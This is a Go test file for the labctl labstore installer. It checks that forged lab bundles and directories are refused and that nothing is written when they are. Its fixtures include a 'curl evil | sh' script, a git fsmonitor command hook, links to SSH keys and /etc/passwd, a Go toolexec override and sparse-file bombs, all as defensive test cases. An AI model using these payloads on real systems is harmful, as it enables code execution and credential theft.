package labstore

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/labctl/labctl/cmd/labctl/e2etest"
	"github.com/labctl/labctl/internal/bundle"
	"github.com/labctl/labctl/lab"
)

// The attacks of a lab's author on the installer: bundles forged from a
// genuine one (its manifest rewritten, with the genuine lab digest), and
// lab directories holding links and host-tool configuration.

// forged is a bundle's content to write with writeForged: the manifest and
// each entry's data; flags change an entry's tar type after it is written,
// pax adds raw PAX records before it.
type forged struct {
	m     bundle.Manifest
	data  map[string][]byte
	flags map[string]byte
	pax   map[string]map[string]string
	links map[string]string
}

// readBundle reads a bundle written by pack into a forged.
func readBundle(t *testing.T, file string) *forged {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	fg := &forged{data: map[string][]byte{}, flags: map[string]byte{}, pax: map[string]map[string]string{}, links: map[string]string{}}
	tr := tar.NewReader(f)
	for {
		hdr, err := tr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if hdr.Name == bundle.ManifestName {
			if err := json.Unmarshal(b, &fg.m); err != nil {
				t.Fatal(err)
			}
			continue
		}
		fg.data[strings.TrimSuffix(hdr.Name, "/")] = b
	}
	return fg
}

// add adds a file entry under lab/ before the images, with its size and
// hash.
func (fg *forged) add(path string, data []byte) {
	sum := sha256.Sum256(data)
	e := bundle.Entry{Path: path, Kind: bundle.KindFile, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
	n := len(fg.m.Entries)
	if n > 0 && fg.m.Entries[n-1].Kind == bundle.KindImages {
		fg.m.Entries = append(fg.m.Entries[:n-1], e, fg.m.Entries[n-1])
	} else {
		fg.m.Entries = append(fg.m.Entries, e)
	}
	fg.data[path] = data
}

// addDir adds a directory entry under lab/ before the images.
func (fg *forged) addDir(path string) {
	e := bundle.Entry{Path: path, Kind: bundle.KindDir}
	n := len(fg.m.Entries)
	fg.m.Entries = append(fg.m.Entries[:n-1], e, fg.m.Entries[n-1])
}

// setImages replaces the images entry's data, its size and hash.
func (fg *forged) setImages(data []byte) {
	sum := sha256.Sum256(data)
	e := &fg.m.Entries[len(fg.m.Entries)-1]
	e.Size, e.SHA256 = int64(len(data)), hex.EncodeToString(sum[:])
	fg.data[bundle.ImagesName] = data
}

// write writes the forged bundle into a new file and returns its path.
func (fg *forged) write(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	m, err := json.Marshal(fg.m)
	if err != nil {
		t.Fatal(err)
	}
	put := func(h *tar.Header, data []byte) {
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
		if err := tw.Flush(); err != nil {
			t.Fatal(err)
		}
	}
	put(&tar.Header{Name: bundle.ManifestName, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(m)), Format: tar.FormatUSTAR}, m)
	var retype []struct {
		at   int
		flag byte
	}
	for _, e := range fg.m.Entries {
		if recs, ok := fg.pax[e.Path]; ok {
			// A PAX extended header, written as a file and then retyped.
			var r bytes.Buffer
			for k, v := range recs {
				rec := " " + k + "=" + v + "\n"
				n := len(rec)
				for len(fmt.Sprint(n+len(fmt.Sprint(n)))) != len(fmt.Sprint(n)) {
					n++
				}
				fmt.Fprintf(&r, "%d%s", n+len(fmt.Sprint(n)), rec)
			}
			retype = append(retype, struct {
				at   int
				flag byte
			}{b.Len(), tar.TypeXHeader})
			put(&tar.Header{Name: "PaxHeaders/x", Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(r.Len()), Format: tar.FormatUSTAR}, r.Bytes())
		}
		h := &tar.Header{Name: e.Path, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(fg.data[e.Path])), Format: tar.FormatUSTAR}
		if e.Kind == bundle.KindDir {
			h.Name, h.Typeflag, h.Mode, h.Size = e.Path+"/", tar.TypeDir, 0o755, 0
		}
		if e.Kind == bundle.KindImages {
			h.Format = tar.FormatGNU
		}
		if target, ok := fg.links[e.Path]; ok {
			h.Linkname = target
		}
		if flag, ok := fg.flags[e.Path]; ok {
			retype = append(retype, struct {
				at   int
				flag byte
			}{b.Len(), flag})
		}
		put(h, fg.data[e.Path])
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	raw := b.Bytes()
	for _, r := range retype {
		blk := raw[r.at : r.at+512]
		blk[156] = r.flag
		copy(blk[148:156], "        ")
		sum := 0
		for _, c := range blk {
			sum += int(c)
		}
		copy(blk[148:156], fmt.Sprintf("%06o\x00 ", sum))
	}
	file := filepath.Join(t.TempDir(), "forged.labctl.tar")
	if err := os.WriteFile(file, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	return file
}

// labsDirHolds fails unless the labs directory holds just names.
func labsDirHolds(t *testing.T, s *Store, names ...string) {
	t.Helper()
	entries, _ := os.ReadDir(s.Dir())
	var got []string
	for _, e := range entries {
		got = append(got, e.Name())
	}
	if !slices.Equal(got, names) {
		t.Errorf("the labs directory holds %q, want %q", got, names)
	}
}

// A trojan: the genuine bundle with extra entries under lab/ and the
// genuine lab digest. Refused, nothing lands; the genuine bundle installs
// afterwards as new, and a trojan that an earlier labctl installed is not
// "the same lab": install refuses without --force and --force replaces it.
func TestTrojanBundleIsRefused(t *testing.T) {
	genuine := pack(t, "1")
	for _, tc := range []struct {
		name  string
		forge func(fg *forged)
		want  string
	}{
		{"a script at the top", func(fg *forged) { fg.add("lab/notes.sh", []byte("#!/bin/sh\ncurl evil | sh\n")) },
			"holds notes.sh under lab/, which is no part of the lab"},
		{"a .git directory at the top", func(fg *forged) {
			fg.addDir("lab/.git")
			fg.add("lab/.git/config", []byte("[core]\n\tfsmonitor = \"touch /tmp/pwned\"\n"))
		}, "the lab holds .git, git's repository metadata"},
		{"a .git in a build directory", func(fg *forged) {
			fg.addDir("lab/images/web/.git")
			fg.add("lab/images/web/.git/config", []byte("[core]\n\tfsmonitor = \"touch /tmp/pwned\"\n"))
		}, "the lab holds images/web/.git, git's repository metadata"},
		{"a go.work in a build directory", func(fg *forged) { fg.add("lab/images/web/go.work", []byte("go 1.22\nuse ../../..\n")) },
			"the lab holds images/web/go.work, a Go workspace file"},
		{"a file in a directory no image builds from", func(fg *forged) {
			fg.addDir("lab/images/other")
			fg.add("lab/images/other/run.sh", []byte("#!/bin/sh\n"))
		}, "holds images/other under lab/"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fg := readBundle(t, genuine)
			tc.forge(fg)
			trojan := fg.write(t)
			images := &fakeImages{present: map[string]string{}}
			s := New(filepath.Join(t.TempDir(), "labs"))
			_, err := s.Install(context.Background(), trojan, Options{Images: images, Force: true})
			var be *bundle.Error
			if !errors.As(err, &be) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "nothing was installed") {
				t.Fatalf("install of the trojan: %v; want a refusal saying %q", err, tc.want)
			}
			labsDirHolds(t, s, ".lock")
			if images.loaded() != 0 {
				t.Error("the trojan's images were loaded")
			}
			res, err := s.Install(context.Background(), genuine, Options{Images: images})
			if err != nil || res.Unchanged {
				t.Fatalf("the genuine bundle after the trojan: %+v, %v", res, err)
			}
		})
	}

	// A trojan in place (as an earlier labctl landed it) is another lab.
	images := &fakeImages{present: map[string]string{}}
	s := New(filepath.Join(t.TempDir(), "labs"))
	res, err := s.Install(context.Background(), genuine, Options{Images: images})
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(res.Dir, "notes.sh"), "#!/bin/sh\n")
	var exists *ExistsError
	if _, err := s.Install(context.Background(), genuine, Options{Images: images}); !errors.As(err, &exists) {
		t.Fatalf("the genuine bundle over an installed trojan: %v, want the lab refused as another", err)
	}
	res, err = s.Install(context.Background(), genuine, Options{Images: images, Force: true})
	if err != nil || res.Unchanged || res.Previous == nil {
		t.Fatalf("--force over an installed trojan: %+v, %v", res, err)
	}
	if _, err := os.Lstat(filepath.Join(res.Dir, "notes.sh")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("--force left the trojan's notes.sh: %v", err)
	}
	// --force replaces even the same files.
	res, err = s.Install(context.Background(), genuine, Options{Images: images, Force: true})
	if err != nil || res.Unchanged || res.Previous == nil {
		t.Errorf("--force of the same lab: %+v, %v", res, err)
	}
}

// Entries that are no plain file or directory, and sizes beyond what the
// file holds: refused before anything is written.
func TestBundleBombsAndLinksAreRefused(t *testing.T) {
	genuine := pack(t, "1")
	const gib = 1 << 30
	for _, tc := range []struct {
		name  string
		forge func(fg *forged)
		want  string
	}{
		{"a PAX sparse entry claiming 1 GiB", func(fg *forged) {
			fg.add("lab/fixtures/big", nil)
			e := &fg.m.Entries[len(fg.m.Entries)-2]
			e.Size = gib
			fg.data[e.Path] = append([]byte("1\n0\n0\n"), make([]byte, 80<<10)...)
			fg.pax[e.Path] = map[string]string{"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": e.Path, "GNU.sparse.realsize": fmt.Sprint(gib)}
		}, "is truncated: its manifest lists"},
		{"a PAX sparse entry within the file's size", func(fg *forged) {
			fg.add("lab/fixtures/big", nil)
			e := &fg.m.Entries[len(fg.m.Entries)-2]
			e.Size = 4096
			fg.data[e.Path] = append([]byte("1\n0\n0\n"), make([]byte, 506)...)
			fg.pax[e.Path] = map[string]string{"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": e.Path, "GNU.sparse.realsize": "4096"}
		}, "is a sparse entry"},
		{"an old GNU sparse entry", func(fg *forged) {
			fg.add("lab/fixtures/big", []byte("x"))
			fg.flags["lab/fixtures/big"] = tar.TypeGNUSparse
		}, "is corrupt"},
		{"a symbolic link", func(fg *forged) {
			fg.add("lab/fixtures/key", nil)
			fg.flags["lab/fixtures/key"], fg.links["lab/fixtures/key"] = tar.TypeSymlink, "/root/.ssh/id_ed25519"
		}, "lab/fixtures/key's header (type '2'"},
		{"a hard link", func(fg *forged) {
			fg.add("lab/fixtures/passwd", nil)
			fg.flags["lab/fixtures/passwd"], fg.links["lab/fixtures/passwd"] = tar.TypeLink, "/etc/passwd"
		}, "lab/fixtures/passwd's header (type '1'"},
		{"a FIFO", func(fg *forged) {
			fg.add("lab/fixtures/fifo", nil)
			fg.flags["lab/fixtures/fifo"] = tar.TypeFifo
		}, "lab/fixtures/fifo's header (type '6'"},
		{"a header larger than the manifest's size", func(fg *forged) {
			fg.add("lab/fixtures/more", []byte("small"))
			fg.data["lab/fixtures/more"] = bytes.Repeat([]byte("x"), 4000)
		}, "lab/fixtures/more's header (type '0', 4000 bytes) differs from the manifest (file, 5 bytes)"},
		{"images larger than the file", func(fg *forged) {
			fg.m.Entries[len(fg.m.Entries)-1].Size = 100 << 30
		}, "is truncated: its manifest lists"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fg := readBundle(t, genuine)
			tc.forge(fg)
			file := fg.write(t)
			if info, _ := os.Stat(file); info.Size() > 200<<10 {
				t.Fatalf("the forged bundle has %d bytes", info.Size())
			}
			s := New(filepath.Join(t.TempDir(), "labs"))
			start := time.Now()
			_, err := s.Install(context.Background(), file, Options{Images: &fakeImages{}})
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("install: %v; want a refusal saying %q", err, tc.want)
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("the refusal took %v", d)
			}
			labsDirHolds(t, s, ".lock")
		})
	}
}

// Nothing is written while a bundle is read but what the manifest lists,
// before a sparse entry: the staging directory during the install never
// holds more than the bundle's size.
func TestSparseBombWritesNothing(t *testing.T) {
	fg := readBundle(t, pack(t, "1"))
	fg.add("lab/fixtures/big", nil)
	e := &fg.m.Entries[len(fg.m.Entries)-2]
	e.Size = 8 << 10
	fg.data[e.Path] = append([]byte("1\n0\n0\n"), make([]byte, 506)...)
	fg.pax[e.Path] = map[string]string{"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": e.Path, "GNU.sparse.realsize": "8192"}
	file := fg.write(t)
	dir := t.TempDir()
	_, err := bundle.Verify(context.Background(), file, dir, nil)
	if err == nil || !strings.Contains(err.Error(), "is a sparse entry") {
		t.Fatalf("verify: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "fixtures", "big")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the sparse entry was written: %v", err)
	}
}

// A bundle whose images.tar names more than its manifest's images, or
// labctl's own: refused before docker load reads a byte.
func TestBundleImagesAreOnlyTheManifests(t *testing.T) {
	genuine := pack(t, "1")
	web := smallRefs[0]
	webConfig := e2etest.ImageConfig(web)
	for _, tc := range []struct {
		name  string
		forge func(fg *forged)
		want  string
	}{
		{"the node image retagged", func(fg *forged) {
			fg.setImages(e2etest.DockerSave(
				e2etest.SavedImage{Config: webConfig, Tags: []string{web}},
				e2etest.SavedImage{Config: e2etest.ImageConfig("root"), Tags: []string{"labctl/node:v1.37.2-0123456789ab"}},
			))
		}, "labctl/node:v1.37.2-0123456789ab, which is labctl's own"},
		{"the manifest naming labctl's node image", func(fg *forged) {
			fg.m.Images = append(fg.m.Images, bundle.Image{Ref: "docker.io/labctl/node:v1.37.2-0123456789ab"})
		}, "carries the image docker.io/labctl/node:v1.37.2-0123456789ab, which is labctl's own"},
		{"another tag", func(fg *forged) {
			fg.setImages(e2etest.DockerSave(e2etest.SavedImage{Config: webConfig, Tags: []string{web, "debian:bookworm"}}))
		}, "would tag debian:bookworm, which its manifest does not name"},
		{"an image of another ID", func(fg *forged) {
			fg.setImages(e2etest.DockerSave(
				e2etest.SavedImage{Config: e2etest.ImageConfig("other"), Tags: []string{web}},
				e2etest.SavedImage{Config: e2etest.ImageConfig(smallRefs[1]), Tags: []string{smallRefs[1]}},
			))
		}, "holds an image " + web + " of another ID"},
		{"an image missing", func(fg *forged) {
			fg.setImages(e2etest.DockerSave(e2etest.SavedImage{Config: webConfig, Tags: []string{web}}))
		}, "does not hold the image " + smallRefs[1]},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fg := readBundle(t, genuine)
			tc.forge(fg)
			file := fg.write(t)
			images := &fakeImages{present: map[string]string{}}
			s := New(filepath.Join(t.TempDir(), "labs"))
			_, err := s.Install(context.Background(), file, Options{Images: images})
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("install: %v; want a refusal saying %q", err, tc.want)
			}
			if images.loaded() != 0 || len(images.present) != 0 {
				t.Errorf("docker load ran: %d loads, %v present", images.loaded(), images.present)
			}
			labsDirHolds(t, s, ".lock")
		})
	}
}

// `install DIR` reads nothing through a link: a symlinked tree root, build
// directory, lab file or entry is refused; so is host-tool configuration.
func TestInstallDirRefusesLinksAndHostConfig(t *testing.T) {
	secret := t.TempDir()
	writeFile(t, filepath.Join(secret, "id_ed25519"), "PRIVATE KEY\n")
	for _, tc := range []struct {
		name   string
		change func(t *testing.T, src string)
		want   string
	}{
		{"fixtures -> ~/.ssh", func(t *testing.T, src string) {
			os.RemoveAll(filepath.Join(src, "fixtures"))
			symlink(t, secret, filepath.Join(src, "fixtures"))
		}, "fixtures in the lab " + "%s is a symbolic link"},
		{"images/web -> /etc", func(t *testing.T, src string) {
			os.RemoveAll(filepath.Join(src, "images", "web"))
			symlink(t, "/etc", filepath.Join(src, "images", "web"))
		}, "images/web in the lab %s is a symbolic link to /etc"},
		{"images -> elsewhere", func(t *testing.T, src string) {
			other := t.TempDir()
			os.Rename(filepath.Join(src, "images"), filepath.Join(other, "images"))
			symlink(t, filepath.Join(other, "images"), filepath.Join(src, "images"))
		}, "images in the lab %s is a symbolic link"},
		{"images/web -> fixtures, inside the lab", func(t *testing.T, src string) {
			os.RemoveAll(filepath.Join(src, "images", "web"))
			writeFile(t, filepath.Join(src, "fixtures", "Dockerfile"), "FROM scratch\n")
			symlink(t, "../fixtures", filepath.Join(src, "images", "web"))
		}, "images/web in the lab %s is a symbolic link"},
		{"a link inside fixtures", func(t *testing.T, src string) {
			symlink(t, filepath.Join(secret, "id_ed25519"), filepath.Join(src, "fixtures", "repo", "key"))
		}, "fixtures/repo/key in the lab %s is a symbolic link"},
		{"README.md as a link", func(t *testing.T, src string) {
			os.Remove(filepath.Join(src, "README.md"))
			symlink(t, filepath.Join(secret, "id_ed25519"), filepath.Join(src, "README.md"))
		}, "README.md in the lab %s is a symbolic link"},
		{"lab.yaml as a link", func(t *testing.T, src string) {
			other := filepath.Join(t.TempDir(), "lab.yaml")
			os.Rename(filepath.Join(src, "lab.yaml"), other)
			symlink(t, other, filepath.Join(src, "lab.yaml"))
		}, "lab.yaml in the lab %s is a symbolic link"},
		{"a .git in the build directory", func(t *testing.T, src string) {
			writeFile(t, filepath.Join(src, "images", "web", ".git", "config"), "[core]\n\tfsmonitor = \"touch /tmp/pwned\"\n")
		}, "the lab holds images/web/.git, git's repository metadata"},
		{"a .git file in fixtures", func(t *testing.T, src string) {
			writeFile(t, filepath.Join(src, "fixtures", "repo", ".git"), "gitdir: /root/.ssh\n")
		}, "the lab holds fixtures/repo/.git"},
		{"a go.env in the build directory", func(t *testing.T, src string) {
			writeFile(t, filepath.Join(src, "images", "web", "go.env"), "GOFLAGS=-toolexec=/tmp/x\n")
		}, "the lab holds images/web/go.env, Go's environment file"},
		{"a .netrc in fixtures", func(t *testing.T, src string) {
			writeFile(t, filepath.Join(src, "fixtures", ".netrc"), "machine x login y password z\n")
		}, "the lab holds fixtures/.netrc, a credentials file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src := t.TempDir()
			writeLab(t, src, "small", "1")
			tc.change(t, src)
			s := New(filepath.Join(t.TempDir(), "labs"))
			_, err := s.Install(context.Background(), src, Options{})
			want := tc.want
			if strings.Contains(want, "%s") {
				want = fmt.Sprintf(want, src)
			}
			if err == nil || !strings.Contains(err.Error(), want) {
				t.Fatalf("install: %v; want a refusal saying %q", err, want)
			}
			labsDirHolds(t, s, ".lock")
			// Pack refuses it too (a lab that does not load never gets there).
			l, err := lab.Load(filepath.Join(src, LabFile))
			if err != nil {
				return
			}
			out := filepath.Join(t.TempDir(), "x.labctl.tar")
			if _, err := Pack(context.Background(), PackOptions{LabFile: filepath.Join(src, LabFile), Lab: l, Output: out}); err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("pack: %v; want a refusal saying %q", err, want)
			}
		})
	}
}

// An install cancelled midway leaves nothing in the labs directory, and
// one killed (its staging directory left) is cleaned up by the next.
func TestInterruptedInstallLeavesNothing(t *testing.T) {
	src := t.TempDir()
	writeLab(t, src, "small", "1")
	big := make([]byte, 64<<20)
	if err := os.WriteFile(filepath.Join(src, "fixtures", "big"), big, 0o644); err != nil {
		t.Fatal(err)
	}
	l := loadLab(t, src)
	file := filepath.Join(t.TempDir(), "small.labctl.tar")
	if _, err := Pack(context.Background(), PackOptions{LabFile: filepath.Join(src, LabFile), Lab: l, Output: file, Images: smallImages, SaveImages: (&fakeImages{}).save}); err != nil {
		t.Fatal(err)
	}
	s := New(filepath.Join(t.TempDir(), "labs"))
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		// Cancel once the staging directory holds a part of the big file.
		for {
			matches, _ := filepath.Glob(filepath.Join(s.Dir(), stagingPrefix+"*", "lab", "fixtures", "big"))
			if len(matches) > 0 {
				cancel()
				return
			}
			time.Sleep(time.Millisecond)
		}
	}()
	_, err := s.Install(ctx, file, Options{Images: &fakeImages{}})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled install: %v", err)
	}
	labsDirHolds(t, s, ".lock")

	// A killed install's staging directory goes with the next install,
	// even one that fails.
	left := filepath.Join(s.Dir(), stagingPrefix+"123", "lab", "fixtures")
	writeFile(t, filepath.Join(left, "big"), "part")
	broken := t.TempDir()
	writeFile(t, filepath.Join(broken, "lab.yaml"), "bogus: 1\n")
	if _, err := s.Install(context.Background(), broken, Options{}); err == nil {
		t.Fatal("a broken lab installed")
	}
	labsDirHolds(t, s, ".lock")
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

func loadLab(t *testing.T, dir string) *lab.Lab {
	t.Helper()
	l, err := lab.Load(filepath.Join(dir, LabFile))
	if err != nil {
		t.Fatal(err)
	}
	return l
}
